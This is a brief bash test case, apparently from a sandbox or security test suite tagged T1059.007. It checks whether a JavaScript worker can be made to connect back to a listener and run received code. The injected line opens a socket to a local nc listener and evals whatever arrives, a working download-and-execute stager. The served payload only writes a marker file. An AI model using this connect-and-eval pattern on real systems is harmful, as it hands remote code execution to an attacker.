# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.007
about="a worker connects to the attacker and obeys, without another program"
attack() {
	echo 'require("fs").writeFileSync("/var/tmp/fidelity/marker/was-here", "x")' | nc -N -l 127.0.0.1 4445 &
	listening 4445
	inject 'return new Promise((done) => require("net").connect(4445, "127.0.0.1").on("data", (code) => done(eval(String(code)))).on("error", done))'
	kill %% 2>/dev/null
}
effect() { [ -e "$marker" ]; }
